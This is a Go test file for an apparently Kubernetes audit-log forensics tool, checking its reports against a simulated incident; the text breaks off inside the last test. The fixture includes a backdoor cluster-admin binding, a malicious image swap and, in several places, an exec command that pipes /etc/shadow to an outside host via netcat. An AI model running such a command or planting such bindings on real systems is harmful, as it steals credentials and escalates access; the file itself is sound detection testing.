package investigate

import (
	"context"
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/kubetrail/kubetrail/internal/audit"
	"github.com/kubetrail/kubetrail/internal/query"
)

func summaries(qs []*Request) []string {
	out := []string{}
	for _, q := range qs {
		out = append(out, summary(q))
	}
	return out
}

func TestWho(t *testing.T) {
	r := openFixture(t, incident())
	f := func(name string, q WhoQuery, want ...string) {
		t.Helper()
		rep, err := Who(r, q)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if diff := cmp.Diff(append([]string{}, want...), summaries(rep.Requests)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
	target := func(s string) Target {
		tg, err := ParseTarget(s)
		if err != nil {
			t.Fatal(err)
		}
		return tg
	}
	// The seed question: one row for the two-stage delete, its last stage.
	f("who deleted secret important in production",
		WhoQuery{Verbs: Verbs("delete"), Target: target("secrets/important"), Namespace: "production"},
		"12 alice delete secrets/important -n production ResponseComplete 200 allow")
	f("singular name and past tense", WhoQuery{Verbs: Verbs("deleted"), Target: target("secret/important"), Namespace: "production"},
		"12 alice delete secrets/important -n production ResponseComplete 200 allow")
	f("every stage", WhoQuery{Verbs: Verbs("delete"), Target: target("secret/important"), Namespace: "production", AllStages: true},
		"12 alice delete secrets/important -n production RequestReceived ",
		"12 alice delete secrets/important -n production ResponseComplete 200 allow")
	f("any namespace", WhoQuery{Verbs: Verbs("delete"), Target: target("secret/important")},
		"12 alice delete secrets/important -n production ResponseComplete 200 allow",
		"13 bob delete secrets/important -n staging ResponseComplete 200 allow")
	f("namespace glob", WhoQuery{Verbs: Verbs("delete"), Target: target("secret/important"), Namespace: "stag*"},
		"13 bob delete secrets/important -n staging ResponseComplete 200 allow")
	f("read = get, list, watch; no name = any", WhoQuery{Verbs: Verbs("read"), Target: target("secret"), Namespace: "production"},
		"11 alice get secrets/important -n production ResponseComplete 200 allow",
		"20 bob list secrets -n production ResponseComplete 403 forbid",
		"70 eve list secrets -n production ResponseComplete 200 allow")
	f("a subresource, with a short name", WhoQuery{Verbs: Verbs("create,get"), Target: target("po/web/exec")},
		"40 admin get pods/web/exec -n production ResponseComplete 101 allow",
		"41 admin create pods/web/exec -n production ResponseComplete 101 allow")
	f("the object without its subresources", WhoQuery{Verbs: Verbs("*"), Target: target("pods/web")},
		"21 bob get pods/web -n production ResponseComplete 403 forbid")
	f("a namespace is cluster-scoped: -n is ignored", WhoQuery{Verbs: Verbs("create"), Target: target("ns/production"), Namespace: "production"})
	f("an API group", WhoQuery{Verbs: Verbs("changed"), Target: target("deploy.apps/web")},
		"60 admin create deployments/web -n production ResponseComplete 201 allow",
		"61 mallory patch deployments/web -n production ResponseComplete 200 allow",
		"62 mallory update deployments/web -n production ResponseComplete 200 allow",
		"63 admin update deployments/web -n production ResponseComplete 409 allow",
		"66 admin delete deployments/web -n production ResponseComplete 200 allow")
	f("the wrong API group", WhoQuery{Verbs: Verbs("create"), Target: target("deploy.extensions/web")})
	// A client-chosen Audit-ID shared by two requests: both are shown.
	f("audit ID is not unique", WhoQuery{Verbs: Verbs("delete"), Target: target("cm")},
		"80 alice delete configmaps/a -n production ResponseComplete 200 allow",
		"81 alice delete configmaps/b -n production ResponseComplete 200 allow")
	f("with --where and --limit", WhoQuery{Verbs: Verbs("changed"), Target: target("deploy/web"), Scope: Scope{Where: "user=mallory", Limit: 1}},
		"62 mallory update deployments/web -n production ResponseComplete 200 allow")
	f("time window", WhoQuery{Verbs: Verbs("any"), Target: target("secrets"),
		Scope: Scope{Since: t0.Add(11 * 1e9).UnixMicro(), Until: t0.Add(20 * 1e9).UnixMicro()}},
		"11 alice get secrets/important -n production ResponseComplete 200 allow",
		"12 alice delete secrets/important -n production ResponseComplete 200 allow",
		"13 bob delete secrets/important -n staging ResponseComplete 200 allow")

	rep, err := Who(r, WhoQuery{Verbs: Verbs("delete"), Target: target("secrets/important"), Namespace: "production"})
	if err != nil {
		t.Fatal(err)
	}
	q := rep.Requests[0]
	if q.AuditID != "del-1" || !cmp.Equal(q.Stages, []string{"RequestReceived", "ResponseComplete"}) ||
		!cmp.Equal(q.Groups, []string{"developers", "system:authenticated"}) || q.Peer != "10.0.0.5" || q.Cluster != "prod" {
		t.Errorf("who: request %+v", q)
	}
	want := `RECEIVED                  USER   GROUPS                           AS  SOURCE IPS      USER AGENT       VERB    NAMESPACE   OBJECT             STAGE             RESULT
2026-11-23T10:00:12.000Z  alice  developers,system:authenticated  -   10.0.0.5(peer)  kubectl/v1.37.2  delete  production  secrets/important  ResponseComplete  200 allow
1 request by alice(1)
`
	if got := render(t, rep, "table"); got != want {
		t.Errorf("who table:\n%s\nwant:\n%s", got, want)
	}
}

func TestWhereErrors(t *testing.T) {
	r := openFixture(t, incident())
	_, err := Who(r, WhoQuery{Verbs: Verbs("get"), Target: Target{Resources: []string{"pods"}}, Scope: Scope{Where: "verb=get usr=alice"}})
	qe, ok := IsQueryError(err)
	if !ok || qe.Col != 10 || !strings.Contains(qe.Msg, `did you mean "user"`) {
		t.Fatalf("a mistake in --where must come back positioned in it: %v", err)
	}
	if _, err := From(r, FromQuery{Addr: "not-an-ip"}); err == nil {
		t.Error("from not-an-ip: no error")
	}
	if _, err := Activity(r, ActivityQuery{}); err == nil {
		t.Error("activity without a user: no error")
	}
}

func TestActivity(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := Activity(r, ActivityQuery{User: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"10 alice create secrets/important -n production ResponseComplete 201 allow",
		"11 alice get secrets/important -n production ResponseComplete 200 allow",
		"12 alice delete secrets/important -n production ResponseComplete 200 allow",
		"30 admin list pods -n production as alice ResponseComplete 200 allow", // admin impersonating alice
		"80 alice delete configmaps/a -n production ResponseComplete 200 allow",
		"81 alice delete configmaps/b -n production ResponseComplete 200 allow",
	}
	if diff := cmp.Diff(want, summaries(rep.Requests)); diff != "" {
		t.Errorf("activity alice (-want +got):\n%s", diff)
	}
	rep, err = Activity(r, ActivityQuery{User: "system:serviceaccount:kube-system:*", Scope: Scope{Limit: 5}})
	if err != nil || len(rep.Requests) != 1 || rep.Requests[0].Name != "sa-token" {
		t.Errorf("activity with a glob: %v %v", summaries(rep.Requests), err)
	}
	text := render(t, rep, "table")
	if !strings.Contains(text, "1 request from 2026-11-23T10:00:01.000Z to 2026-11-23T10:00:01.000Z (get(1)); 0 failed") {
		t.Errorf("activity table:\n%s", text)
	}
	rep, _ = Activity(r, ActivityQuery{User: "nobody"})
	if text := render(t, rep, "table"); text != "no requests by or as nobody\n" {
		t.Errorf("empty activity: %q", text)
	}
}

func TestHistory(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := History(r, HistoryQuery{Target: Target{Resources: Resources("deploy"), Name: "web"}, Namespace: "production", Diffs: true})
	if err != nil {
		t.Fatal(err)
	}
	type row struct{ What, Body, Diff string }
	var got []row
	for _, c := range rep.Changes {
		d := c.Diff
		if c.Patch != nil {
			d = "patch " + string(c.Patch)
		}
		got = append(got, row{summary(c.Request), c.Body, d})
	}
	want := []row{
		{"60 admin create deployments/web -n production ResponseComplete 201 allow", "responseObject", "@@ -0,0 +1,23 @@\n+{\n" +
			"+  \"apiVersion\": \"apps/v1\",\n+  \"kind\": \"Deployment\",\n+  \"metadata\": {\n+    \"generation\": 1,\n+    \"name\": \"web\",\n" +
			"+    \"namespace\": \"production\",\n+    \"uid\": \"u-1\"\n+  },\n+  \"spec\": {\n+    \"replicas\": 1,\n+    \"template\": {\n" +
			"+      \"spec\": {\n+        \"containers\": [\n+          {\n+            \"image\": \"web:1.0\",\n+            \"name\": \"web\"\n" +
			"+          }\n+        ]\n+      }\n+    }\n+  }\n+}"},
		// managedFields and resourceVersion changed too, and are left out.
		{"61 mallory patch deployments/web -n production ResponseComplete 200 allow", "responseObject", "@@ -2,7 +2,7 @@\n" +
			"   \"apiVersion\": \"apps/v1\",\n   \"kind\": \"Deployment\",\n   \"metadata\": {\n-    \"generation\": 1,\n+    \"generation\": 2,\n" +
			"     \"name\": \"web\",\n     \"namespace\": \"production\",\n     \"uid\": \"u-1\"\n@@ -13,7 +13,7 @@\n" +
			"       \"spec\": {\n         \"containers\": [\n           {\n-            \"image\": \"web:1.0\",\n+            \"image\": \"evil:6.6.6\",\n" +
			"             \"name\": \"web\"\n           }\n         ]"},
		// Only the request body (level Request): it is the object sent.
		{"62 mallory update deployments/web -n production ResponseComplete 200 allow", "requestObject", "@@ -2,13 +2,13 @@\n" +
			"   \"apiVersion\": \"apps/v1\",\n   \"kind\": \"Deployment\",\n   \"metadata\": {\n-    \"generation\": 2,\n+    \"generation\": 3,\n" +
			"     \"name\": \"web\",\n     \"namespace\": \"production\",\n     \"uid\": \"u-1\"\n   },\n   \"spec\": {\n-    \"replicas\": 1,\n+    \"replicas\": 5,\n" +
			"     \"template\": {\n       \"spec\": {\n         \"containers\": ["},
		// A failed write changes nothing and shows no diff.
		{"63 admin update deployments/web -n production ResponseComplete 409 allow", "", ""},
		// A patch of the status subresource logged at Request level: the
		// patch, not a state.
		{"65 admin patch deployments/web/status -n production ResponseComplete 200 allow", "", `patch {"status":{"readyReplicas":5}}`},
		// The delete answered with a Status: no state.
		{"66 admin delete deployments/web -n production ResponseComplete 200 allow", "", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("history deploy/web (-want +got):\n%s", diff)
	}
	if rep.NoBody != 1 {
		t.Errorf("NoBody = %d, want 1 (the delete)", rep.NoBody)
	}
	text := render(t, rep, "table")
	for _, s := range []string{
		"2026-11-23T10:01:01.000Z  mallory  -   patch   production  deployments/web         200 allow  10.0.0.5(peer)\n    @@ -2,7 +2,7 @@\n",
		"    -            \"image\": \"web:1.0\",\n    +            \"image\": \"evil:6.6.6\",\n",
		"    patch sent (the response did not carry the object):\n    {\n      \"status\": {\n        \"readyReplicas\": 5\n      }\n    }\n",
		"1 successful change carried no body",
	} {
		if !strings.Contains(text, s) {
			t.Errorf("history table lacks %q:\n%s", s, text)
		}
	}

	// --reads adds the get; --diff=false leaves bodies out.
	rep, err = History(r, HistoryQuery{Target: Target{Resources: Resources("deployment"), Name: "web"}, Reads: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Changes) != 7 || rep.Changes[4].Verb != "get" || rep.Changes[0].Diff != "" {
		t.Errorf("history --reads --diff=false: %d changes, %v", len(rep.Changes), summaries(requestsOf(rep.Changes)))
	}

	// A pod's exec sessions are not changes to the pod.
	rep, err = History(r, HistoryQuery{Target: Target{Resources: Resources("po"), Name: "web"}, Namespace: "production", Diffs: true})
	if err != nil || len(rep.Changes) != 0 {
		t.Errorf("history pod/web: %v %v", summaries(requestsOf(rep.Changes)), err)
	}
}

func requestsOf(cs []*Change) []*Request {
	var out []*Request
	for _, c := range cs {
		out = append(out, c.Request)
	}
	return out
}

func TestHistoryRecreated(t *testing.T) {
	cm := func(v string) string {
		return `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"c","namespace":"d"},"data":{"k":"` + v + `"}}`
	}
	evs := []*evb{
		req(1, "a", "create", "/api/v1/namespaces/d/configmaps").Obj("configmaps", "d", "c").Level(audit.LevelRequestResponse).Code(201, "allow").RespBody(cm("1")),
		req(2, "a", "update", "/api/v1/namespaces/d/configmaps/c").Obj("configmaps", "d", "c").Level(audit.LevelRequestResponse).Code(200, "allow").RespBody(cm("1")),
		req(3, "a", "delete", "/api/v1/namespaces/d/configmaps/c").Obj("configmaps", "d", "c").Level(audit.LevelRequestResponse).Code(200, "allow").RespBody(cm("1")),
		req(4, "b", "create", "/api/v1/namespaces/d/configmaps").Obj("configmaps", "d", "c").Level(audit.LevelRequestResponse).Code(201, "allow").RespBody(cm("2")),
		req(5, "b", "patch", "/api/v1/namespaces/d/configmaps/c").Obj("configmaps", "d", "c").Level(audit.LevelMetadata).Code(200, "allow"),
		req(6, "b", "patch", "/api/v1/namespaces/d/configmaps/c").Obj("configmaps", "d", "c").Level(audit.LevelRequestResponse).Code(200, "allow").RespBody(cm("3")),
	}
	r := openFixture(t, evs)
	rep, err := History(r, HistoryQuery{Target: Target{Resources: Resources("configmap"), Name: "c"}, Namespace: "d", Diffs: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Changes) != 6 {
		t.Fatalf("%d changes, want 6", len(rep.Changes))
	}
	c := rep.Changes
	if !c[1].Unchanged || c[2].Diff != "" || !c[2].Unchanged {
		t.Errorf("an update and a delete that leave the body as it was must say so: %+v %+v", c[1], c[2])
	}
	// The second creation starts a new life: the whole object again.
	if !strings.HasPrefix(c[3].Diff, "@@ -0,0 +1,") || !strings.Contains(c[3].Diff, `+    "k": "2"`) {
		t.Errorf("re-creation diff:\n%s", c[3].Diff)
	}
	// After a change of unknown effect, the next state is shown whole.
	if c[4].Diff != "" || c[4].Body != "" || !strings.HasPrefix(c[5].Diff, "@@ -0,0 +1,") {
		t.Errorf("after a Metadata-level patch: %q / %q", c[4].Diff, c[5].Diff)
	}
	if rep.NoBody != 1 {
		t.Errorf("NoBody = %d, want 1", rep.NoBody)
	}
}

func TestSecrets(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := Secrets(r, SecretsQuery{Scope: Scope{IncludeSystem: true}})
	if err != nil {
		t.Fatal(err)
	}
	type row struct {
		User, As, Verb   string
		Requests, Failed int
		Secrets, Flag    string
	}
	var got []row
	for _, a := range rep.Accesses {
		got = append(got, row{a.User, a.As, a.Verb, a.Requests, a.Failed, fmtList(a.Secrets, 0), a.Flag})
	}
	want := []row{
		{"alice", "", "get", 1, 0, "production/important", "non-system read"},
		{"alice", "", "create", 1, 0, "production/important", ""},
		{"alice", "", "delete", 1, 0, "production/important", ""}, // one request, two stages
		{"bob", "", "list", 1, 1, "production/*", "non-system read attempt"},
		{"bob", "", "delete", 1, 0, "staging/important", ""},
		{"eve", "", "list", 1, 0, "production/*", "non-system read"},
		{"system:serviceaccount:kube-system:token-controller", "", "get", 1, 0, "kube-system/sa-token", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("secrets (-want +got):\n%s", diff)
	}
	text := render(t, rep, "table")
	for _, s := range []string{"USER  ", "! non-system read attempt", "7 requests on secrets by 4 users", "3 rows flagged"} {
		if !strings.Contains(text, s) {
			t.Errorf("secrets table lacks %q:\n%s", s, text)
		}
	}
}

func TestExecs(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := Execs(r, ExecsQuery{})
	if err != nil {
		t.Fatal(err)
	}
	type row struct {
		What, Kind, Transport, Container, Cmd string
		Ports                                 []string
		Stdin, TTY                            bool
	}
	var got []row
	for _, e := range rep.Execs {
		got = append(got, row{summary(e.Request), e.Kind, e.Transport, e.Container, shellJoin(e.Command), e.Ports, e.Stdin, e.TTY})
	}
	want := []row{
		{"40 admin get pods/web/exec -n production ResponseComplete 101 allow", "exec", "websocket", "app", `sh -c 'cat /etc/shadow | nc 203.0.113.9 80'`, nil, true, true},
		{"41 admin create pods/web/exec -n production ResponseComplete 101 allow", "exec", "spdy", "app", `sh -c 'cat /etc/shadow | nc 203.0.113.9 80'`, nil, true, true},
		{"42 admin create pods/web/portforward -n production ResponseComplete 101 allow", "portforward", "spdy", "", "", []string{"8080", "9090"}, false, false},
		{"43 admin get pods/web/attach -n production ResponseComplete 101 allow", "attach", "websocket", "app", "", nil, true, false},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("execs (-want +got):\n%s", diff)
	}
	text := render(t, rep, "table")
	for _, s := range []string{
		"production  web  exec         app        sh -c 'cat /etc/shadow | nc 203.0.113.9 80'  websocket (get)",
		"portforward  -          ports 8080,9090",
		"4 requests by admin(4)",
	} {
		if !strings.Contains(text, s) {
			t.Errorf("execs table lacks %q:\n%s", s, text)
		}
	}
	// -o wide: every stage of the WebSocket session.
	rep, err = Execs(r, ExecsQuery{AllStages: true})
	if err != nil || len(rep.Execs) != 5 || rep.Execs[0].Stage != "ResponseStarted" {
		t.Errorf("execs, all stages: %d rows, %v", len(rep.Execs), err)
	}
}

func TestDenied(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := Denied(r, DeniedQuery{})
	if err != nil {
		t.Fatal(err)
	}
	type row struct {
		User                                 string
		Requests                             int
		Codes, Verbs, Resources, Peers, Last string
	}
	var got []row
	for _, u := range rep.Users {
		got = append(got, row{u.User, u.Requests, fmtCounts(u.codes, 0, ","), fmtCounts(u.verbs, 0, ","), fmtCounts(u.resources, 0, ","), fmtCounts(u.peers, 0, ","),
			u.Last.Sub(t0).String()})
	}
	want := []row{
		{"bob", 3, "403(3)", "get(2),list(1)", "pods(2),secrets(1)", "10.0.0.5(3)", "22s"},
		{"", 1, "401(1)", "get(1)", "/version(1)", "198.51.100.7(1)", "23s"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("denied (-want +got):\n%s", diff)
	}
	text := render(t, rep, "table")
	for _, s := range []string{"bob                -   3         403(3)", "(unauthenticated)  -   1         401(1)", "4 requests denied to 2 users (3 x 403, 1 x 401)"} {
		if !strings.Contains(text, s) {
			t.Errorf("denied table lacks %q:\n%s", s, text)
		}
	}
}

// TestGroupedLimit: limit keeps the first groups of secrets and denied,
// most important first, and says how many it left out.
// Mutation it catches: firstN keeping the last rows, as lastN does.
func TestGroupedLimit(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := Run(context.Background(), r, "denied", url.Values{"limit": {"1"}}, t0)
	if err != nil {
		t.Fatal(err)
	}
	d := rep.(*DeniedReport)
	if len(d.Users) != 1 || d.Users[0].User != "bob" || d.Cut != 1 {
		t.Fatalf("denied limit=1: %d rows, first %+v, cut %d; want bob alone, 1 cut", len(d.Users), d.Users[0], d.Cut)
	}
	text := render(t, rep, "table")
	// The summary counts the codes of every user, as it counts their
	// requests, not only of those shown (bob's 403s alone).
	for _, want := range []string{"4 requests denied to 2 users (3 x 403, 1 x 401)", "1 more row not shown (--limit); --limit 0 shows all"} {
		if !strings.Contains(text, want) {
			t.Errorf("denied limit=1 table lacks %q:\n%s", want, text)
		}
	}
	rep, err = Run(context.Background(), r, "secrets", url.Values{"limit": {"1"}, "include-system": {"1"}}, t0)
	if err != nil {
		t.Fatal(err)
	}
	if s := rep.(*SecretsReport); len(s.Accesses) != 1 || s.Cut == 0 {
		t.Errorf("secrets limit=1: %d rows, %d cut; want 1 row and the rest cut", len(s.Accesses), s.Cut)
	}
}

// TestDeniedNamesWhomItImpersonated: a refused request that impersonated
// someone is counted for the pair, with AS shown: admin's own refusals and
// those admin got while acting as developer are two rows.
// Mutation it catches: grouping by the sender alone (the review's "admin
// 2 403(2)" for requests made as developer and as a service account).
func TestDeniedNamesWhomItImpersonated(t *testing.T) {
	r := openFixture(t, []*evb{
		req(1, "admin", "list", "/api/v1/namespaces/prod/secrets").Obj("secrets", "prod", "").As("developer").Code(403, "forbid"),
		req(2, "admin", "list", "/api/v1/namespaces/prod/secrets").Obj("secrets", "prod", "").As("system:serviceaccount:prod:default").Code(403, "forbid"),
		req(3, "admin", "delete", "/api/v1/namespaces/prod/pods/x").Obj("pods", "prod", "x").Code(403, "forbid"),
	})
	rep, err := Denied(r, DeniedQuery{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Users) != 3 {
		t.Fatalf("%d rows, want 3 (admin, admin as developer, admin as the service account)", len(rep.Users))
	}
	text := render(t, rep, "table")
	for _, want := range []string{"admin  developer", "admin  system:serviceaccount:prod:default", "admin  -  "} {
		if !strings.Contains(text, want) {
			t.Errorf("denied table lacks %q:\n%s", want, text)
		}
	}
}

func TestRBAC(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := RBAC(r, RBACQuery{})
	if err != nil {
		t.Fatal(err)
	}
	type row struct {
		What, Kind, RoleRef, Subjects, Flags, Body string
	}
	var got []row
	for _, c := range rep.Changes {
		got = append(got, row{summary(c.Request), c.Kind, c.RoleRef, strings.Join(c.Subjects, ","), strings.Join(c.Flags, ","), c.Body})
	}
	want := []row{
		{"50 mallory create clusterrolebindings/backdoor ResponseComplete 201 allow", "ClusterRoleBinding", "ClusterRole/cluster-admin",
			"User/eve,ServiceAccount/ci/default", "cluster-admin", "responseObject"},
		{"51 mallory create roles/all -n production ResponseComplete 201 allow", "Role", "", "", "wildcard,grants bind|impersonate", "requestObject"},
		{"52 admin delete rolebindings/view -n production ResponseComplete 200 allow", "RoleBinding", "", "", "", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rbac (-want +got):\n%s", diff)
	}
	text := render(t, rep, "table")
	for _, s := range []string{"ClusterRole/cluster-admin  User/eve,ServiceAccount/ci/default", "! cluster-admin", "3 changes by mallory(2), admin(1); 2 flagged",
		"1 change carried no body"} {
		if !strings.Contains(text, s) {
			t.Errorf("rbac table lacks %q:\n%s", s, text)
		}
	}
}

func TestFrom(t *testing.T) {
	r := openFixture(t, incident())
	f := func(addr string, want ...string) {
		t.Helper()
		rep, err := From(r, FromQuery{Addr: addr})
		if err != nil {
			t.Fatalf("from %s: %v", addr, err)
		}
		got := []string{}
		for _, q := range rep.Requests {
			got = append(got, summary(q.Request)+" "+q.Match)
		}
		if diff := cmp.Diff(append([]string{}, want...), got); diff != "" {
			t.Errorf("from %s (-want +got):\n%s", addr, diff)
		}
	}
	f("192.168.1.100",
		"70 eve list secrets -n production ResponseComplete 200 allow forwarded", // only claimed in X-Forwarded-For
		"71 eve get configmaps/settings -n production ResponseComplete 200 allow peer")
	f("192.168.0.0/16",
		"70 eve list secrets -n production ResponseComplete 200 allow forwarded",
		"71 eve get configmaps/settings -n production ResponseComplete 200 allow peer",
		"72 eve get configmaps/other -n production ResponseComplete 200 allow peer") // ::ffff:192.168.1.7 is 192.168.1.7
	f("198.51.100.7", "23 (unauthenticated) get /version ResponseStarted 401 peer")
	f("10.0.0.9", "70 eve list secrets -n production ResponseComplete 200 allow peer")
	f("2001:db8::/32")

	rep, _ := From(r, FromQuery{Addr: "192.168.1.100"})
	text := render(t, rep, "table")
	for _, s := range []string{"192.168.1.100,10.0.0.9(peer)  forwarded only", "match peer: 1 ", "forwarded only: 1 "} {
		if !strings.Contains(text, s) {
			t.Errorf("from table lacks %q:\n%s", s, text)
		}
	}
}

func TestWriteFormats(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := Execs(r, ExecsQuery{})
	if err != nil {
		t.Fatal(err)
	}
	var arr []map[string]any
	if err := json.Unmarshal([]byte(render(t, rep, "json")), &arr); err != nil || len(arr) != 4 {
		t.Fatalf("-o json: %d records, %v", len(arr), err)
	}
	if arr[0]["kind"] != "exec" || arr[0]["user"] != "admin" || arr[0]["peer"] != "10.0.0.5" || arr[0]["time"] != "2026-11-23T10:00:40Z" {
		t.Errorf("-o json record: %v", arr[0])
	}
	lines := strings.Split(strings.TrimSpace(render(t, rep, "jsonl")), "\n")
	if len(lines) != 4 || !strings.Contains(lines[0], `"command":["sh","-c","cat /etc/shadow | nc 203.0.113.9 80"]`) {
		t.Errorf("-o jsonl:\n%s", strings.Join(lines, "\n"))
	}
	wide := render(t, rep, "wide")
	if !strings.Contains(wide, "STDIN/TTY") || !strings.Contains(wide, "stdin,tty") {
		t.Errorf("-o wide:\n%s", wide)
	}
	empty, _ := Denied(openFixture(t, incident()[:1]), DeniedQuery{})
	if got := render(t, empty, "json"); got != "[]\n" {
		t.Errorf("empty -o json: %q", got)
	}
	if got := render(t, empty, "table"); got != "no denied requests\n" {
		t.Errorf("empty table: %q", got)
	}
	if err := Write(&strings.Builder{}, empty, "yaml"); err == nil {
		t.Error("-o yaml: no error")
	}
}

// TestOrSplit checks that selecting the terms of an "or" one by one (so
// that the store answers each from its columns) gives exactly what the
// whole filter selects.
func TestOrSplit(t *testing.T) {
	r := openFixture(t, incident())
	for _, o := range []query.Expr{
		or(in("code", "401", "403"), eq("decision", "forbid")),
		or(eq("user", "alice"), eq("as", "alice")),
		or(eq("verb", "delete"), eq("resource", "secrets"), eq("ns", "production")),
	} {
		for _, allStages := range []bool{false, true} {
			split, _, err := collect(r, Scope{IncludeSystem: true}, o, allStages, false)
			if err != nil {
				t.Fatal(err)
			}
			whole, _, err := collect(r, Scope{IncludeSystem: true}, &query.Not{X: &query.Not{X: o}}, allStages, false)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(summaries(whole), summaries(split)); diff != "" || len(whole) == 0 {
				t.Errorf("%s (all stages %v): split differs from whole (-whole +split):\n%s", o, allStages, diff)
			}
		}
	}
}

// TestSecretsFlagsAnonymous: reads of secrets without credentials are
// flagged, refused or not, though system:anonymous starts with system:.
// Mutation it catches: treating system:anonymous as a component.
func TestSecretsFlagsAnonymous(t *testing.T) {
	r := openFixture(t, []*evb{
		req(1, "system:anonymous", "list", "/api/v1/secrets").Obj("secrets", "", "").Code(403, "forbid"),
		req(2, "system:anonymous", "get", "/api/v1/namespaces/prod/secrets/db").Obj("secrets", "prod", "db").Code(200, "allow"),
		req(3, "system:serviceaccount:kube-system:x", "get", "/api/v1/namespaces/kube-system/secrets/t").Obj("secrets", "kube-system", "t").Code(200, "allow"),
	})
	rep, err := Secrets(r, SecretsQuery{Scope: Scope{IncludeSystem: true}})
	if err != nil {
		t.Fatal(err)
	}
	flags := map[string]string{}
	for _, a := range rep.Accesses {
		flags[a.User+" "+a.Verb] = a.Flag
	}
	want := map[string]string{
		"system:anonymous list":                   "anonymous read attempt",
		"system:anonymous get":                    "anonymous read",
		"system:serviceaccount:kube-system:x get": "",
	}
	if diff := cmp.Diff(want, flags); diff != "" {
		t.Errorf("flags (-want +got):\n%s", diff)
	}
}

// TestFailedExecSaysWhy: an exec the authorizer allowed but that failed
// shows the failure's message, not "404 allow" alone, which reads as a
// success; refusals (401, 403) keep their code and decision only.
// Mutation it catches: result() without the failure reason.
func TestFailedExecSaysWhy(t *testing.T) {
	gone := req(1, "admin", "create", "/api/v1/namespaces/prod/pods/web/exec?command=sh").Obj("pods/exec", "prod", "web").Code(404, "allow")
	gone.Ev.ResponseStatus.Message, gone.Ev.ResponseStatus.Reason = `pods "web" not found`, "NotFound"
	refused := req(2, "bob", "create", "/api/v1/namespaces/prod/pods/web/exec?command=sh").Obj("pods/exec", "prod", "web").Code(403, "forbid")
	refused.Ev.ResponseStatus.Reason = "Forbidden"
	r := openFixture(t, []*evb{gone, refused})
	rep, err := Execs(r, ExecsQuery{})
	if err != nil {
		t.Fatal(err)
	}
	text := render(t, rep, "table")
	if !strings.Contains(text, `404 allow: pods "web" not found`) {
		t.Errorf("the failed exec does not say why:\n%s", text)
	}
	if !strings.Contains(text, "403 forbid ") || strings.Contains(text, "403 forbid:") {
		t.Errorf("the refused exec:\n%s", text)
	}
}

// TestActivityIncludesBindingsNamingTheUser: eve's timeline holds the
// binding mallory created to make eve cluster-admin, though eve did not
// make it; a user the binding does not name does not get it.
// Mutation it catches: activity by user and as only (the old behaviour).
func TestActivityIncludesBindingsNamingTheUser(t *testing.T) {
	r := openFixture(t, incident())
	rep, err := Activity(r, ActivityQuery{User: "eve"})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, q := range rep.Requests {
		if q.User == "mallory" && q.Resource == "clusterrolebindings" && q.Name == "backdoor" {
			found = true
		}
	}
	if !found {
		t.Fatalf("eve's activity lacks the binding that named eve:\n%s", render(t, rep, "table"))
	}
	rep, err = Activity(r, ActivityQuery{User: "bob"})
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range rep.Requests {
		if q.Resource == "clusterrolebindings" {
			t.Errorf("bob's activity holds a binding that does not name bob: %+v", q)
		}
	}
}

// TestTimeColumns: a column headed TIME holds the event's stageTimestamp,
// as in query and as --since/--until compare; the time a request was
// received is headed RECEIVED. The incident's stages come 3 ms after the
// request was received, so the two differ in every row.
// Mutation it catches: who -o wide printing q.Time under TIME, or a
// report heading the received time TIME again.
func TestTimeColumns(t *testing.T) {
	r := openFixture(t, incident())
	params := map[string]url.Values{
		"who": {"verb": {"*"}, "resource": {"secrets"}}, "activity": {"user": {"alice"}},
		"history": {"resource": {"secrets/important"}, "namespace": {"production"}}, "from": {"addr": {"10.0.0.0/8"}},
	}
	for _, name := range Names {
		p := params[name]
		if p == nil {
			p = url.Values{}
		}
		rep, err := Run(context.Background(), r, name, p, t0)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, wide := range []bool{false, true} {
			tb := rep.Table(wide)
			ti, ri := slices.Index(tb.Head, "TIME"), slices.Index(tb.Head, "RECEIVED")
			if ti < 0 {
				continue
			}
			if ri < 0 {
				t.Errorf("%s (wide %t): a TIME column without RECEIVED: %v", name, wide, tb.Head)
				continue
			}
			for _, row := range tb.Rows {
				st, err1 := time.Parse(time.RFC3339, row.Cells[ti])
				rc, err2 := time.Parse(time.RFC3339, row.Cells[ri])
				if err1 != nil || err2 != nil || st.Sub(rc) != 3*time.Millisecond {
					t.Errorf("%s (wide %t): TIME %s, RECEIVED %s; want the stage time, 3 ms after", name, wide, row.Cells[ti], row.Cells[ri])
				}
			}
		}
	}
}

// TestStagesWithoutReceivedTime: an event without requestReceivedTimestamp
// falls back to its stage time for display, but the stages of one request
// have different stage times, so they must still make one row.
func TestStagesWithoutReceivedTime(t *testing.T) {
	uri := "/api/v1/namespaces/production/pods/web/exec?command=sh"
	noReceived := func(b *evb, stage time.Duration) *evb {
		b.Ev.StageTimestamp = audit.MicroTime{Time: b.Ev.RequestReceivedTimestamp.Add(stage)}
		b.Ev.RequestReceivedTimestamp = audit.MicroTime{}
		return b
	}
	r := openFixture(t, []*evb{
		noReceived(req(10, "alice", "create", uri).Obj("pods/exec", "production", "web").Stage(audit.StageResponseStarted).Code(101, "allow").ID("x1"), 0),
